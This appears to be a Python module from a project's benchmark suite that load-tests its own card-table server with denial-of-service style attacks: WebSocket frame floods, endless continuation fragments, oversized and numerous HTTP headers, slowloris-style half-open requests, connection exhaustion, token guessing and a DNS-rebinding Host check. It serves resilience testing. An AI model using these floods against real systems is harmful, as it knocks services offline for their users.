"""Attacks on what reaches the server before a table does: bytes, requests, sockets."""

from __future__ import annotations

import socket
import time
from contextlib import ExitStack, suppress
from pathlib import Path

import coatl
from bench.attack.target import Target, empty_frame

PING, PONG, FIRST_TEXT, CONTINUATION = 0x89, 0x8A, 0x01, 0x00
MOST_BYTES = 300_000_000  # for one connection
CHUNK = 60_000


def nothing(target: Target) -> None:
    """For comparison."""
    while not target.is_over:
        time.sleep(0.1)


def _flood_frames(target: Target, first: int, begin: bytes = b"") -> None:
    """Empty frames on one socket after another."""
    table = target.open_table()
    while not target.is_over:
        with target.connected() as raw:
            target.upgrade(raw, table["table"])
            target.greet(raw, table["seats"][0])
            target.send(raw, begin)
            raw.settimeout(target.seconds)
            target.flood(raw, empty_frame(first) * (CHUNK // 6), MOST_BYTES)


def pings(target: Target) -> None:
    _flood_frames(target, PING)


def pongs(target: Target) -> None:
    _flood_frames(target, PONG)


def continuations(target: Target) -> None:
    """One message in empty fragments that never ends."""
    _flood_frames(target, CONTINUATION, empty_frame(FIRST_TEXT))


def _flood_requests(target: Target, begin: bytes, again: bytes) -> None:
    while not target.is_over:
        with target.connected() as raw:
            target.send(raw, begin)
            raw.settimeout(target.seconds)
            target.flood(raw, again * (CHUNK // len(again)), MOST_BYTES)


def long_header(target: Target) -> None:
    _flood_requests(target, b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ", b"x" * CHUNK)


def many_headers(target: Target) -> None:
    _flood_requests(target, b"GET / HTTP/1.1\r\nHost: x\r\n", b"a: b\r\n")


def trailers(target: Target) -> None:
    """Headers that follow a body."""
    start = b"POST /api/tables HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
    _flood_requests(target, start, b"a: b\r\n")


def pipelined(target: Target) -> None:
    """Requests that do not wait for an answer, and whose answers nobody reads."""
    _flood_requests(target, b"", b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")


def pipelined_reading(target: Target) -> None:
    """The same by somebody who reads the answers."""
    asked = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 500
    while not target.is_over:
        with target.connected() as raw:
            while not target.is_over:
                target.send(raw, asked)
                raw.setblocking(False)
                with suppress(BlockingIOError):
                    while data := raw.recv(1 << 16):
                        target.tally["answers"] += data.count(b"HTTP/1.1 ")
                raw.setblocking(True)


def not_http(target: Target) -> None:
    """What scanners send; each line of the log that it makes counts."""
    while not target.is_over:
        with target.connected() as raw:
            raw.sendall(b"\x16\x03\x01 garbage\r\n\r\n")
            raw.recv(1000)
            target.tally["requests"] += 1


def _hold_open(target: Target, begin: bytes, drop: bytes) -> None:
    """Many connections with an unfinished request, and a byte for each now and then."""
    with ExitStack() as stack:
        held: list[socket.socket] = []
        while not target.is_over:
            with suppress(OSError):
                held.append(stack.enter_context(target.connect()))
                held[-1].sendall(begin)
            if len(held) % 500 == 0:
                for raw in held:
                    with suppress(OSError):
                        raw.sendall(drop)
            time.sleep(0.002)
        target.tally["opened"] = len(held)
        target.tally["still open"] = sum(is_open(raw) for raw in held)


def is_open(raw: socket.socket) -> bool:
    raw.setblocking(False)
    try:
        while raw.recv(4096):
            pass
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


def half_heads(target: Target) -> None:
    _hold_open(target, b"GET / HTTP/1.1\r\nHost: x\r\n", b"a")


def half_bodies(target: Target) -> None:
    start = b"POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n"
    _hold_open(target, start, b" ")


def unread_files(target: Target) -> None:
    """The largest file of the page, asked for again and again, and never read."""
    assets = Path(coatl.__file__).parent / "static" / "assets"
    largest = max(assets.iterdir(), key=lambda file: file.stat().st_size)
    asked = f"GET /assets/{largest.name} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    _hold_open(target, asked, b"")


def files(target: Target) -> None:
    while not target.is_over:
        target.ask("GET", "/")


def requests(target: Target) -> None:
    while not target.is_over:
        target.ask("GET", "/api/cards")


def sockets(target: Target) -> None:
    """Opened and dropped."""
    table = target.open_table()
    while not target.is_over:
        with target.connected() as raw:
            target.upgrade(raw, table["table"])


def tables(target: Target) -> None:
    while not target.is_over:
        target.open_table()


def guesses(target: Target) -> None:
    """Of the token of a table that exists."""
    table = target.open_table()
    while not target.is_over:
        path = f"/api/tables/{table['table']}"
        target.ask("GET", path, Authorization=f"Bearer {time.monotonic()}")


def other_names(target: Target) -> None:
    """As a page does whose name suddenly means this machine (DNS rebinding)."""
    while not target.is_over:
        target.ask("GET", "/api/cards", Host=f"elsewhere.example:{target.port}")


def connections(target: Target) -> None:
    """Opened, never used, and kept."""
    with ExitStack() as stack:
        opened = 0
        while not target.is_over:
            with suppress(OSError):
                stack.enter_context(target.connect())
                opened += 1
        target.tally["opened"] = opened


ATTACKS = (
    *(nothing, pings, pongs, continuations, long_header, many_headers, trailers),
    *(pipelined, pipelined_reading, not_http, half_heads, half_bodies, unread_files),
    *(files, requests, sockets, connections, tables, guesses, other_names),
)
